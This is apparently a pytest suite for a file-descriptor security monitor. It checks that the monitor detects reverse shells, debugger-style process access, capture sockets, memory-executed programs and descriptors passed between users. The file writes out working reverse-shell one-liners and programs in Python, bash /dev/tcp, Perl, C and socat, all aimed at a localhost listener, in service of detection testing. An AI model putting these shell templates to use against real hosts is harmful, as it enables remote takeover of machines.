# SPDX-License-Identifier: GPL-2.0-only
"""Each kind of event: the right process, its parents, the peer, and how unusual it is."""

import ctypes
import fcntl
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from fdscope.probes.hooks import syscalls
from fdscope.probes.read.session import Session
from fdscope.probes.schema.taxonomy import Mode
from tests.kernel.fds.fd_life import LIBC
from tests.kernel.journal.conftest import Events, Told

NOBODY = 65534
SEIZE, ATTACH, DETACH = 0x4206, 16, 17


def one(events: list[Told], kind: str) -> Told:
    """The only event of a kind."""
    (found,) = [each for each in events if each["kind"] == kind]
    return found


def of_kind(events: list[Told], kind: str) -> list[Told]:
    return [each for each in events if each["kind"] == kind]


# Reverse shells. Each gets the port of a listener, and runs `true` there.

PYTHON_DUP2 = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "exit"])
"""
PYTHON_FCNTL = """
import fcntl, os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.close(fd)
    assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, fd) == fd
os.execv("/bin/sh", ["sh", "-c", "exit"])
"""
PYTHON_INHERITED = """
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
subprocess.run(["/bin/sh", "-c", "exit"], stdin=s, stdout=s, stderr=s, check=True)
"""
BASH = "exec 5<>/dev/tcp/127.0.0.1/$1; exec /bin/sh -c exit <&5 >&5 2>&5"
PERL = """
use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in($ARGV[0], inet_aton("127.0.0.1")));
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec {"/bin/sh"} "sh", "-c", "exit";
"""
STATIC = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
int main(int n, char **arg)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(arg[1]))};
	int fd = socket(AF_INET, SOCK_STREAM, 0), i;
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (void *)&to, sizeof(to)))
		return 1;
	for (i = 0; i < 3; i++)
		dup2(fd, i);
	execl("/bin/sh", "sh", "-c", "exit", NULL);
	return 1;
}
"""


def static_program(directory: Path) -> list[str]:
    source = directory / "shell.c"
    source.write_text(STATIC)
    program = directory / "reverse"
    subprocess.run(["cc", "-static", "-o", program, source], check=True)
    return [str(program)]


def command(how: str, directory: Path) -> list[str]:
    """The command without the port, which follows."""
    if how == "static":
        if not shutil.which("cc"):
            pytest.skip("this machine has no C compiler")
        return static_program(directory)
    program = {"bash": "bash", "perl": "perl", "socat": "socat"}.get(how, sys.executable)
    if not shutil.which(program):
        pytest.skip(f"this machine has no {program}")
    return {
        "python, dup2": [program, "-c", PYTHON_DUP2],
        "python, fcntl": [program, "-c", PYTHON_FCNTL],
        "python, inherited": [program, "-c", PYTHON_INHERITED],
        "bash": [program, "-c", BASH, "bash"],
        "perl": [program, "-e", PERL],
        "socat": ["socat"],
        "static": [],
    }[how]


HOWS = (
    "python, dup2", "python, fcntl", "python, inherited", "bash", "perl", "static", "socat",
)  # fmt: skip


@pytest.mark.parametrize("how", HOWS)
def test_a_reverse_shell(events: Events, tmp_path: Path, how: str) -> None:
    base = command(how, tmp_path)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        whole = [*base, str(port)]
        if how == "socat":
            whole = ["socat", f"TCP:127.0.0.1:{port}", "EXEC:/bin/sh -c exit,nofork"]
        told = events(lambda: subprocess.run(whole, check=True, timeout=60))
    executed = one(told, "exec_on_socket")
    assert executed["severity"] == "critical"
    assert executed["rule"] == "shell_executed_on_socket"
    assert executed["process"]["command"].endswith("sh -c exit")
    assert executed["process"]["parents"][-1]["pid"] == 1
    assert executed["process"]["program"] == str(Path("/bin/sh").resolve())
    stdio = of_kind(told, "stdio_socket")
    assert {each["file"]["fd"] for each in stdio} >= {0, 1}
    for each in (*stdio, executed):
        assert each["file"]["remote"] == f"127.0.0.1:{port}"
        assert each["file"]["fd_type"] == "tcp"
        assert each["file"]["scope"] == "loopback"
        assert each["process"]["user"] == "root"
    if how.startswith(("python", "bash", "perl")):
        assert {each["severity"] for each in stdio} == {"critical"}


def test_a_shell_behind_a_pair_of_sockets(events: Events) -> None:
    """By default socat gives a program one end of a pair of unix sockets."""
    if not shutil.which("socat"):
        pytest.skip("this machine has no socat")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        whole = ["socat", f"TCP:127.0.0.1:{port}", "EXEC:/bin/sh -c exit"]
        told = events(lambda: subprocess.run(whole, check=True, timeout=60))
    executed = one(told, "exec_on_socket")
    assert executed["severity"] == "critical"
    assert executed["file"]["fd_type"] == "unix_stream"
    assert executed["process"]["parents"][0]["name"] == "socat"


def test_each_program_of_a_reverse_shell_is_told_once(events: Events) -> None:
    def work() -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            ours = socket.create_connection(listener.getsockname())
            text = "/bin/true; /bin/true; /bin/true; /bin/false; :"
            subprocess.run(["sh", "-c", text], stdin=ours.fileno(), check=True)

    told = of_kind(events(work), "exec_on_socket")
    assert [each["process"]["name"] for each in told] == ["sh", "true", "false"]


# Other kinds.


@pytest.mark.parametrize("how", ["pidfd_getfd", "ptrace_attach", "ptrace_seize"])
def test_access_like_a_debugger(events: Events, how: str) -> None:
    def work() -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            fd = os.dup(listener.fileno())
            os.set_inheritable(fd, True)
            with subprocess.Popen(["sleep", "60"], pass_fds=[fd]) as victim:
                try:
                    debug(victim.pid, fd)
                finally:
                    victim.kill()

    def debug(pid: int, fd: int) -> None:
        if how == "pidfd_getfd":
            number = syscalls.number("pidfd_getfd")
            assert LIBC.syscall(number, os.pidfd_open(pid), fd, 0) >= 0
            return
        attach = ATTACH if how == "ptrace_attach" else SEIZE
        assert LIBC.ptrace(ctypes.c_long(attach), ctypes.c_long(pid), None, None) == 0
        if attach == ATTACH:
            os.waitpid(pid, 0)
            LIBC.ptrace(ctypes.c_long(DETACH), ctypes.c_long(pid), None, None)

    told = one(events(work), "debug_access")
    assert told["facts"]["method"] == how
    assert told["severity"] == "warning"
    assert told["other"]["name"] == "sleep"
    assert told["other"]["command"] in ("sleep 60", None)  # it may have ended by now
    assert told["text"].endswith(f"by {how}")
    if how == "pidfd_getfd":
        assert told["file"]["fd_type"] == "tcp"
        assert told["file"]["state"] == "listen"


@pytest.mark.parametrize("family", ["packet", "raw"])
def test_a_capture_socket(events: Events, family: str) -> None:
    def work() -> None:
        if family == "packet":
            socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close()
        else:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close()

    told = one(events(work), "capture_socket")
    assert told["file"]["fd_type"] == family
    assert told["severity"] == "warning"  # of Python
    assert told["process"]["parents"][0]["pid"] == os.getpid()


def executed_from_memory(name: str, arguments: list[str]) -> None:
    fd = os.memfd_create(name)
    os.write(fd, Path("/bin/true").read_bytes())
    os.execve(fd, arguments, {})  # noqa: S606 - there is no shell on purpose


def test_a_memfd_executed(events: Events) -> None:
    hostile = "x\n\x1b[2J\u202e\udcff"
    told = one(events(lambda: executed_from_memory(hostile, ["a", hostile])), "memfd_executed")
    assert told["severity"] == "warning"
    assert told["file"]["name"] == r"memfd:x\x0a\x1b[2J\u202e\xff"
    assert told["process"]["command"] == r"a x\x0a\x1b[2J\u202e\xff"
    assert told["text"].isprintable()


def test_the_copy_of_a_container_engine(events: Events) -> None:
    work = lambda: executed_from_memory("runc_cloned:/proc/self/exe", ["runc"])  # noqa: E731
    assert one(events(work), "memfd_executed")["severity"] == "info"


@pytest.mark.parametrize("depth", [1, 12])
def test_the_path_of_a_program(events: Events, tmp_path: Path, depth: int) -> None:
    """Its last names, each cut; across a mount, and with text that would harm a terminal."""
    names = [f"n{number}\x1b" for number in range(depth)]
    directory = tmp_path.joinpath(*names)
    directory.mkdir(parents=True)
    program = directory / ("x" * 40)
    shutil.copy("/bin/true", program)

    def work() -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            ours = socket.create_connection(listener.getsockname())
            subprocess.run([program], stdin=ours.fileno(), check=True)

    told = one(events(work), "exec_on_socket")["process"]["program"]
    shown = [*(str(tmp_path).split("/")[1:]), *(name.replace("\x1b", r"\x1b") for name in names)]
    if depth == 1:
        assert told == "/" + "/".join([*shown, 31 * "x"])
    else:
        # Of a process that has not ended yet, /proc has all of it.
        ends = "/".join(shown[-7:])
        assert told in (f".../{ends}/{31 * 'x'}", f"{tmp_path}/{'/'.join(shown[-12:])}/{40 * 'x'}")


def test_a_long_command_line_is_cut(events: Events) -> None:
    told = one(events(lambda: executed_from_memory("m", ["a", 5000 * "b"])), "memfd_executed")
    who = told["process"]
    assert who["command_is_cut"]
    assert who["command"].startswith("a " + 250 * "b")
    assert set(who["command"]) == {"a", " ", "b"}


def exchange(of: Callable[[], int], as_user: int) -> None:
    """A child process with another user receives a descriptor from its parent."""
    ours, theirs = socket.socketpair()
    fd = of()
    pid = os.fork()
    if pid == 0:
        os.setuid(as_user)
        _, fds, _, _ = socket.recv_fds(theirs, 1, 4)
        os._exit(len(fds) - 1)
    socket.send_fds(ours, [b"x"], [fd])
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


def test_an_fd_passed_to_another_user(events: Events, tmp_path: Path) -> None:
    (tmp_path / "secret").touch()
    opened = partial(os.open, tmp_path / "secret", 0)
    told = one(events(lambda: exchange(opened, NOBODY)), "fd_passed")
    assert told["rule"] == "fd_passed_between_users"
    assert told["process"]["uid"] == NOBODY
    assert told["other"]["uid"] == 0
    assert told["other"]["pid"] == told["process"]["parents"][0]["pid"]
    assert told["file"]["name"] == "secret"
    assert told["severity"] == "info"


def test_an_fd_passed_to_the_same_user(events: Events) -> None:
    assert not of_kind(events(lambda: exchange(lambda: os.open("/", 0), 0)), "fd_passed")


def test_a_packet_socket_passed_on(events: Events) -> None:
    def packet() -> int:
        return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).detach()

    told = one(events(lambda: exchange(packet, NOBODY)), "fd_passed")
    assert (told["severity"], told["rule"]) == ("warning", "powerful_fd_passed")


def test_many_fds_at_once(events: Events) -> None:
    """Descriptors of one message: as many as a process may have events of in a second."""

    def work() -> None:
        ours, theirs = socket.socketpair()
        pid = os.fork()
        if pid == 0:
            os.setuid(NOBODY)
            _, fds, _, _ = socket.recv_fds(theirs, 1, 12)
            os._exit(len(fds))
        socket.send_fds(ours, [b"x"], [os.open("/", 0) for _ in range(12)])
        assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 12

    told = of_kind(events(work), "fd_passed")
    assert len({each["file"]["fd"] for each in told}) == 12


def test_no_free_fd(events: Events) -> None:
    def work() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (3, 3))
        for _ in range(50):
            try:
                os.open("/", os.O_RDONLY)
            except OSError:
                continue
            raise AssertionError

    told = of_kind(events(work), "fd_refused")
    assert 1 <= len(told) <= 2  # once a second
    assert told[0]["facts"]["errno"] == "EMFILE"
    assert told[0]["severity"] == "warning"
    assert told[0]["text"].endswith("got no new fd: EMFILE, from a call for open")


def test_a_special_fd_is_told_once_by_name(events: Events) -> None:
    def work() -> None:
        for name in ("first", "first", "second"):
            Path("/proc/self/comm").write_text(f"{name}{os.getpid()}"[:15])
            params = ctypes.create_string_buffer(120)
            fd = LIBC.syscall(syscalls.number("io_uring_setup"), 1, params)
            if fd < 0:
                os._exit(0)
            os.close(fd)

    told = of_kind(events(work), "special_fd")
    if not told:
        pytest.skip("this kernel refuses io_uring")
    assert [each["file"]["fd_type"] for each in told] == ["io_uring", "io_uring"]
    assert {each["severity"] for each in told} == {"info"}


def block_device() -> tuple[int, int] | None:
    """A disk of this machine."""
    for line in Path("/proc/partitions").read_text().splitlines()[2:]:
        major, minor, *_ = line.split()
        return int(major), int(minor)
    return None


def test_a_disk_opened(events: Events, tmp_path: Path) -> None:
    disk = block_device()
    if disk is None:
        pytest.skip("this machine has no disk")
    node = tmp_path / "disk"
    os.mknod(node, 0o600 | 0o060000, os.makedev(*disk))
    try:
        os.close(os.open(node, os.O_RDONLY))
    except OSError as error:
        pytest.skip(f"the disk cannot be opened: {error}")
    told = one(events(lambda: os.close(os.open(node, os.O_RDONLY))), "device_opened")
    assert told["file"]["rdev"] == f"{disk[0]}:{disk[1]}"
    assert told["severity"] == "info"
    assert not told["file"]["writable"]


def test_memory_opened(events: Events, tmp_path: Path) -> None:
    node = tmp_path / "mem"
    os.mknod(node, 0o600 | 0o020000, os.makedev(1, 1))
    try:
        os.close(os.open(node, os.O_RDONLY))
    except OSError as error:
        pytest.skip(f"/dev/mem cannot be opened: {error}")
    told = one(events(lambda: os.close(os.open(node, os.O_RDONLY))), "device_opened")
    assert (told["severity"], told["rule"]) == ("critical", "memory_device")


# What is no event.

ORDINARY = textwrap.dedent(
    """
    set -e
    cd "$1"
    seq 1000 | sort -r | head -n 3 >numbers
    tar cf - numbers | gzip | gunzip | tar tf - >list
    cat <<END | while read -r line; do echo "$line" >>lines; done
    a
    END
    (exec 9<numbers; cat <&9 >/dev/null; exec 0<&9; cat >/dev/null)
    $2 -m http.server --bind 127.0.0.1 $3 >log 2>&1 &
    server=$!
    $2 - $3 <<END
    import time, urllib.request
    for _ in range(100):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{__import__('sys').argv[1]}/").read()
            break
        except OSError:
            time.sleep(0.1)
    else:
        raise SystemExit(1)
    END
    kill $server
    wait $server || :
    $2 -c "import subprocess as s; s.run(['true']); s.run(['cat'], input=b'x', stdout=s.PIPE)"
    find /etc -maxdepth 1 -type f -exec true {} +
    """
)


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port: int = listener.getsockname()[1]
    return port


def test_ordinary_work(events: Events, tmp_path: Path) -> None:
    if missing := [name for name in ("tar", "gzip", "gunzip", "find") if not shutil.which(name)]:
        pytest.skip(f"not installed here: {', '.join(missing)}")
    arguments = ["sh", "-c", ORDINARY, "sh", str(tmp_path), sys.executable, str(free_port())]
    told = events(lambda: subprocess.run(arguments, check=True, timeout=120))
    assert [each["text"] for each in told if each["severity"] != "info"] == []


def test_ordinary_descriptors(events: Events) -> None:
    """Sockets, pipes and files under the numbers that they usually have."""

    def work() -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            ours = socket.create_connection(listener.getsockname())
            theirs, _ = listener.accept()
            os.dup2(ours.fileno(), 100)
            fcntl.fcntl(theirs.fileno(), fcntl.F_DUPFD, 50)
        pair = socket.socketpair()
        os.dup2(pair[0].fileno(), 0)
        os.dup2(os.open(os.devnull, os.O_RDWR), 1)
        socket.send_fds(pair[0], [b"x"], [1])
        socket.recv_fds(pair[1], 1, 1)

    assert events(work) == []


def test_who_passed_an_fd_on_by_mode(events: Events, session: Session) -> None:
    """A child gives to its parent through a pair that the parent made.

    Tracepoint mode knows the maker of the pair only: docs/events.md says so.
    """

    def work() -> None:
        ours, theirs = socket.socketpair()
        pid = os.fork()
        if pid == 0:
            os.setuid(NOBODY)
            socket.send_fds(theirs, [b"x"], [theirs.fileno()])
            signal.pause()
        socket.recv_fds(ours, 1, 1)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)

    told = of_kind(events(work), "fd_passed")
    if session.mode is Mode.TRACEPOINT:
        assert told == []
    else:
        assert [each["other"]["uid"] for each in told] == [NOBODY]
